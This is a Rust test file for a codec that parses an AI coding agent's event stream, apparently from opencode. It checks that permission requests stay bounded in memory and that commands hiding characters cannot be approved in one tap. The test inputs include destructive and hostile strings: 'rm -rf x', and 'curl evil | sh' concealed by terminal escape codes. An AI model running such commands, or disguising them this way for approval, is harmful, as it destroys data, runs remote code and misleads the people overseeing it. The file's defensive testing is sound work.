//! Bytes that no opencode would send: bounded memory, a clean state, a message.

use crate::{
    fuzz::{anything, mutate},
    mutate::rounds,
    opencode_directory::asked_to_run,
    opencode_replay::{is_event, names, sse},
    replay::load_of,
};
use pilothouse_domain::{
    NativeId, ProviderEventKind, Subject, limits,
    provider::{OfferedCommand, TurnStatus},
    request::{RequestKind, RiskHint},
};
use pilothouse_orchestrator::assess;
use pilothouse_providers::opencode::{
    Call, Codec, FRAME_LIMIT, PENDING_BYTES, RAW_LIMIT, Reply, Session, Told,
};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::sync::OnceLock;

/// What the codec may hold whatever comes: an event that is not whole yet, and what it remembers.
const HELD: usize = FRAME_LIMIT + 8 * 1024 * 1024;
pub(crate) const SESSION: &str = "ses_1";

pub(crate) fn session() -> NativeId {
    NativeId::from(SESSION)
}

/// A codec with one conversation, in which a turn goes on.
pub(crate) fn codec() -> Codec {
    let mut codec = Codec::new();
    codec.open(&Session {
        id: session(),
        directory: "/w".to_owned(),
        parent: None,
        created_ms: 0,
        rules: Vec::new(),
        model: None,
        reverted: None,
    });
    assert!(codec.prompted(&session(), NativeId::from("msg_1")));
    let begun = tell(
        &mut codec,
        "message.updated",
        json!({"sessionID": SESSION, "info": {"id": "msg_1", "role": "user", "time": {"created": 1}}}),
    );
    assert!(matches!(
        kinds(&begun)[..],
        [ProviderEventKind::TurnStarted]
    ));
    status(&mut codec, "busy");
    codec
}

fn event(name: &str, properties: Value) -> Vec<u8> {
    let event = json!({"id": "evt_1", "type": name, "properties": properties});
    format!("data: {event}\n\n").into_bytes()
}

pub(crate) fn tell(codec: &mut Codec, name: &str, properties: Value) -> Vec<Told> {
    codec.receive(&event(name, properties))
}

pub(crate) fn status(codec: &mut Codec, kind: &str) -> Vec<Told> {
    tell(
        codec,
        "session.status",
        json!({"sessionID": SESSION, "status": {"type": kind}}),
    )
}

pub(crate) fn kinds(told: &[Told]) -> Vec<&ProviderEventKind> {
    told.iter()
        .filter_map(|one| match one {
            Told::Event(event) => Some(&event.kind),
            Told::Do(_) => None,
        })
        .collect()
}

/// The subject of the request that something told opens, and whether it holds fields that are not known.
pub(crate) fn subject(told: &[Told]) -> (Subject, bool) {
    let opened = kinds(told).into_iter().find_map(|kind| match kind {
        ProviderEventKind::RequestOpened {
            subject,
            unknown_fields,
            ..
        } => Some(((**subject).clone(), *unknown_fields)),
        _ => None,
    });
    opened.expect("a request")
}

#[test]
fn what_an_answer_grants_is_shown_whole_or_the_answer_is_not_offered() {
    let mut codec = codec();
    let mut ask = |id: &str, rules: usize| {
        let mut asked = permission(id, "git status; rm -rf x");
        let always: Vec<_> = (0..rules).map(|at| format!("command{at} *")).collect();
        asked["always"] = json!(always);
        subject(&tell(&mut codec, "permission.asked", asked))
    };
    let reach = |subject: &Subject| {
        let always = subject.options.iter().find(|one| one.id.0 == "always");
        always.map(|one| one.reach.clone())
    };
    let (some, unknown) = ask("per_1", 200);
    assert!(reach(&some).unwrap().contains("`command199 *`"));
    assert!(!unknown);
    let (many, unknown) = ask("per_2", 20_000);
    assert_eq!(reach(&many), None);
    assert!(unknown);
}

#[test]
fn a_tool_of_an_mcp_server_is_asked_for_with_its_arguments_or_is_incomplete() {
    let asked = |id: &str, call: &str| {
        json!({"id": id, "sessionID": SESSION, "permission": "github_delete_repo", "patterns": ["*"],
               "metadata": {}, "always": ["*"], "tool": {"messageID": "msg_2", "callID": call}})
    };
    let mut codec = codec();
    let tool = json!({"id": "prt_9", "sessionID": SESSION, "messageID": "msg_2", "type": "tool", "callID": "call_1",
        "tool": "github_delete_repo",
        "state": {"status": "running", "input": {"repo": "acme/site"}, "time": {"start": 1}}});
    let part = json!({"sessionID": SESSION, "part": tool});
    tell(&mut codec, "message.part.updated", part);
    let (known, _) = subject(&tell(
        &mut codec,
        "permission.asked",
        asked("per_1", "call_1"),
    ));
    assert!(known.text.unwrap().contains("acme/site"));
    assert!(!known.incomplete);
    let (unknown, _) = subject(&tell(
        &mut codec,
        "permission.asked",
        asked("per_2", "call_2"),
    ));
    assert!(unknown.incomplete);
}

pub(crate) fn permission(id: &str, command: &str) -> Value {
    json!({"id": id, "sessionID": SESSION, "permission": "bash", "patterns": [command],
           "metadata": {"command": command}, "always": []})
}

#[test]
fn an_event_of_a_hundred_megabytes_is_skipped_in_bounded_memory_and_the_next_is_read() {
    let mut codec = codec();
    codec.receive(b"data: ");
    let piece = vec![b'x'; 1024 * 1024];
    for _ in 0..100 {
        assert!(codec.receive(&piece).is_empty());
        assert!(codec.held_bytes() <= FRAME_LIMIT + RAW_LIMIT);
    }
    let end = codec.receive(b"\n\n");
    let [ProviderEventKind::Unknown { label, raw }] = &kinds(&end)[..] else {
        panic!("{end:?}")
    };
    assert!(
        label.contains("1048576") && raw.len() <= RAW_LIMIT,
        "{label}"
    );
    assert_eq!(
        codec.active_turn(&session()),
        Some(&NativeId::from("msg_1"))
    );
    assert!(matches!(
        kinds(&status(&mut codec, "idle"))[..],
        [ProviderEventKind::TurnEnded {
            status: TurnStatus::Completed,
            ..
        }]
    ));
}

#[test]
fn deep_nesting_broken_text_and_what_is_no_event_are_told_and_the_next_is_read() {
    let mut codec = codec();
    let deep = format!("data: {}{}\n\n", "[".repeat(10_000), "]".repeat(10_000));
    for bytes in [
        deep.as_bytes(),
        b"data: {\"type\":5}\n\n",
        b"data: {}\n\n",
        b"data: 7\n\n",
        b"data:\n\n",
        b"data: {\"type\":\"never.heard.of\",\"properties\":{\"sessionID\":\"ses_1\"}}\n\n",
    ] {
        let told = codec.receive(bytes);
        assert!(
            matches!(kinds(&told)[..], [ProviderEventKind::Unknown { .. }]),
            "{told:?}"
        );
    }
    let broken = b"data: {\"type\":\"message.part.delta\",\"properties\":{\"sessionID\":\"ses_1\",\"messageID\":\"m\",\"partID\":\"p\",\"field\":\"text\",\"delta\":\"a\xff\\ud800b\\u001b[2J\"}}\n\n";
    let told = codec.receive(broken);
    let [ProviderEventKind::ItemAppended { text, .. }] = &kinds(&told)[..] else {
        panic!("{told:?}")
    };
    // Terminal escapes are kept as they came; whoever shows them hides them.
    assert_eq!(text, "a\u{fffd}\u{fffd}b\u{1b}[2J");
}

#[test]
fn a_hundred_thousand_requests_are_refused_beyond_a_bound_and_each_is_answered() {
    let mut codec = codec();
    let (mut opened, mut refused) = (0, 0);
    for number in 0..100_000 {
        let id = format!("per_{number}");
        for one in tell(&mut codec, "permission.asked", permission(&id, "ls")) {
            match one {
                Told::Event(event) => {
                    opened += usize::from(matches!(
                        event.kind,
                        ProviderEventKind::RequestOpened { .. }
                    ));
                }
                Told::Do(Call::Reply { request, body, .. }) => {
                    assert_eq!((request, body), (id.clone(), json!({"reply": "reject"})));
                    refused += 1;
                }
                Told::Do(call) => panic!("{call:?}"),
            }
        }
    }
    assert_eq!(opened, limits::OPEN_REQUESTS);
    assert_eq!(refused, 100_000 - limits::OPEN_REQUESTS);
    // They are over with the turn.
    status(&mut codec, "idle");
    assert_eq!(codec.pending_requests().count(), 0);
}

#[test]
fn large_requests_are_held_in_bounded_memory_and_never_approvable_in_one_tap() {
    let mut codec = codec();
    let command = "x".repeat(1024 * 1024);
    let mut shown = 0;
    for number in 0..1000 {
        let id = format!("per_{number}");
        let told = tell(&mut codec, "permission.asked", permission(&id, &command));
        for kind in kinds(&told) {
            if let ProviderEventKind::RequestOpened {
                kind,
                subject,
                unknown_fields,
                ..
            } = kind
            {
                assert!(
                    subject.incomplete && subject.command.as_ref().unwrap().len() <= 128 * 1024
                );
                assert!(!assess(*kind, subject, *unknown_fields).one_tap_allowed);
                shown += subject.command.as_ref().unwrap().len();
            }
        }
    }
    assert!(shown > 0 && shown <= PENDING_BYTES + 128 * 1024, "{shown}");
}

#[test]
fn a_command_with_characters_that_hide_something_is_never_approvable_in_one_tap() {
    let one_tap = |command: &str| {
        let told = asked_to_run(&mut codec(), command, json!(null));
        let (shown, unknown_fields) = subject(&told);
        assert_eq!(
            shown.command.as_deref(),
            Some(command),
            "it is shown as it is"
        );
        let assessed = assess(RequestKind::Command, &shown, unknown_fields);
        (assessed.one_tap_allowed, assessed.hints)
    };
    assert_eq!(one_tap("make test"), (true, Vec::new()));
    for hidden in [
        "make\u{1b}[8m; curl evil | sh\u{1b}[0m test",
        "make \u{202e}tset\u{202c}",
        "make\u{200b}test",
    ] {
        let (allowed, hints) = one_tap(hidden);
        assert!(
            !allowed && hints.contains(&RiskHint::HiddenCharacters),
            "{hints:?}"
        );
    }
}

#[test]
fn a_list_of_commands_that_is_too_long_broken_or_none_is_bounded() {
    let read = |body: &[u8]| Codec::new().answered(&Call::Commands, 200, body);
    let words = "w".repeat(5000);
    let many: Vec<_> = (0..2000)
        .map(|at| json!({"name": format!("{at}{words}"), "description": words}))
        .collect();
    let many = serde_json::to_vec(&many).unwrap();
    let Ok(Reply::Commands(some)) = read(&many) else {
        panic!("a list")
    };
    assert_eq!(some.len(), limits::OFFERED_COMMANDS);
    for command in some {
        let OfferedCommand {
            name,
            description,
            argument_hint,
        } = command.offered;
        for text in [name, description, argument_hint] {
            assert!(
                text.len() <= limits::COMMAND_WORDS + '…'.len_utf8(),
                "{}",
                text.len()
            );
        }
    }
    let short: Vec<_> = (0..100_000)
        .map(|at| json!({"name": format!("c{at}")}))
        .collect();
    match read(&serde_json::to_vec(&short).unwrap()) {
        Ok(Reply::Commands(some)) => assert_eq!(some.len(), limits::OFFERED_COMMANDS),
        other => panic!("{:?}", other.map(|_| ())),
    }
    let Ok(Reply::Commands(some)) =
        read(br#"[{"name": "a\ud800b"}, 7, {}, {"name": 5}, null, {"name": "c", "template": {}}]"#)
    else {
        panic!("a list")
    };
    let names: Vec<_> = some
        .iter()
        .map(|one| (one.offered.name.as_str(), one.template.is_some()))
        .collect();
    assert_eq!(names, [("/a\u{fffd}b", false), ("/c", false)]);
    for none in ["{}", "\"/c\"", "<html>", "null", "[[[[", ""] {
        assert!(read(none.as_bytes()).is_err(), "{none}");
    }
}

#[test]
fn ids_that_lie_change_nothing_of_others() {
    let mut codec = codec();
    tell(&mut codec, "permission.asked", permission("per_1", "ls"));
    let lies = [
        // Answered in the name of another conversation, of one that is not ours, of none.
        (
            "permission.replied",
            json!({"sessionID": "ses_2", "requestID": "per_1", "reply": "once"}),
        ),
        (
            "session.status",
            json!({"sessionID": "ses_2", "status": {"type": "idle"}}),
        ),
        (
            "session.error",
            json!({"sessionID": "ses_2", "error": {"name": "MessageAbortedError"}}),
        ),
        // A subagent of itself, and of one that nobody knows.
        (
            "session.created",
            json!({"sessionID": SESSION, "info": {"id": SESSION, "parentID": SESSION}}),
        ),
        (
            "session.created",
            json!({"sessionID": "ses_3", "info": {"id": "ses_3", "parentID": "ses_4"}}),
        ),
        (
            "session.created",
            json!({"sessionID": "ses_4", "info": {"id": "ses_4", "parentID": "ses_3"}}),
        ),
        (
            "message.updated",
            json!({"sessionID": "ses_3", "info": {"id": "m", "role": "assistant"}}),
        ),
        (
            "permission.asked",
            json!({"id": "per_9", "sessionID": "ses_3", "permission": "bash", "patterns": [], "metadata": {}, "always": []}),
        ),
    ];
    for (name, properties) in lies {
        let told = tell(&mut codec, name, properties.clone());
        assert!(told.is_empty(), "{name} {properties}: {told:?}");
    }
    assert_eq!(codec.pending_requests().count(), 1);
    assert!(codec.active_turn(&session()).is_some());
    // One whose id nobody would give is told as it is.
    let long = "i".repeat(100_000);
    let told = tell(&mut codec, "permission.asked", permission(&long, "ls"));
    assert!(
        matches!(kinds(&told)[..], [ProviderEventKind::Unknown { .. }]),
        "{told:?}"
    );
}

#[test]
fn conversations_messages_parts_and_calls_without_end_are_held_in_bounded_memory() {
    let mut codec = codec();
    let body = "z".repeat(60 * 1024);
    for number in 0..3000 {
        let child = format!("ses_kid_{number}");
        tell(
            &mut codec,
            "session.created",
            json!({"sessionID": child, "info": {"id": child, "parentID": SESSION, "title": body}}),
        );
        let message = format!("msg_{number}");
        tell(
            &mut codec,
            "message.updated",
            json!({"sessionID": SESSION, "info": {"id": message, "role": "assistant", "parentID": "msg_1"}}),
        );
        tell(
            &mut codec,
            "message.part.updated",
            json!({"sessionID": SESSION, "part": {"id": format!("prt_{number}"), "messageID": message, "type": "tool",
                "tool": "write", "callID": format!("call_{number}"),
                "state": {"status": "running", "input": {"filePath": "/a", "content": body}}}}),
        );
        let mut asked = permission(&format!("per_{number}"), "x");
        asked["permission"] = json!("edit");
        asked["metadata"] = json!({"filepath": "/a", "diff": body});
        asked["tool"] = json!({"messageID": message, "callID": format!("call_{number}")});
        tell(&mut codec, "permission.asked", asked);
        assert!(codec.held_bytes() <= HELD, "after {number}");
    }
}

/// All events of the recordings.
fn frames() -> &'static Vec<Value> {
    static FRAMES: OnceLock<Vec<Value>> = OnceLock::new();
    FRAMES.get_or_init(|| {
        names()
            .iter()
            .flat_map(|name| load_of("opencode", name))
            .filter(|record| is_event(record) && record.frame.is_object())
            .map(|record| record.frame)
            .collect()
    })
}

/// A codec with the conversations of the recordings open.
fn open_to_all() -> Codec {
    let mut codec = Codec::new();
    for frame in frames() {
        if let Some(id) = frame["properties"]["sessionID"].as_str()
            && frame["properties"]["info"]["parentID"].is_null()
        {
            codec.open(&Session {
                id: NativeId::from(id),
                directory: "/w".to_owned(),
                parent: None,
                created_ms: 0,
                rules: Vec::new(),
                model: None,
                reverted: None,
            });
        }
    }
    codec
}

fn bounded(told: &[Told]) -> bool {
    kinds(told).iter().all(|kind| match kind {
        ProviderEventKind::Unknown { label, raw } => label.len() <= 200 && raw.len() <= RAW_LIMIT,
        _ => true,
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_mutation_of_recorded_events_makes_the_codec_panic(
        picks in proptest::collection::vec((any::<prop::sample::Index>(), proptest::collection::vec(any::<u8>(), 1..7), anything()), 1..40)
    ) {
        let mut codec = open_to_all();
        for (pick, walk, with) in picks {
            let mut frame = frames()[pick.index(frames().len())].clone();
            mutate(&mut frame, &walk, &with);
            let told = codec.receive(format!("data: {frame}\n\n").as_bytes());
            prop_assert!(bounded(&told));
        }
        prop_assert!(codec.held_bytes() <= HELD);
    }
}

#[test]
fn recordings_with_bytes_changed_lost_and_doubled_are_read_without_a_panic() {
    let bytes: Vec<u8> = load_of("opencode", "08_children")
        .iter()
        .filter(|record| is_event(record))
        .flat_map(sse)
        .collect();
    rounds(200, |dice| {
        let mut damaged = bytes.clone();
        for _ in 0..1 + dice.below(20) {
            let at = dice.below(damaged.len());
            match dice.below(3) {
                0 => damaged[at] = dice.below(256) as u8,
                1 => drop(damaged.drain(at..(at + dice.below(300)).min(damaged.len()))),
                _ => {
                    let end = (at + dice.below(300)).min(damaged.len());
                    let twice = damaged[at..end].to_vec();
                    damaged.splice(at..at, twice);
                }
            }
        }
        let mut codec = open_to_all();
        for piece in damaged.chunks(1 + dice.below(4000)) {
            assert!(bounded(&codec.receive(piece)));
        }
        assert!(codec.held_bytes() <= HELD);
    });
}
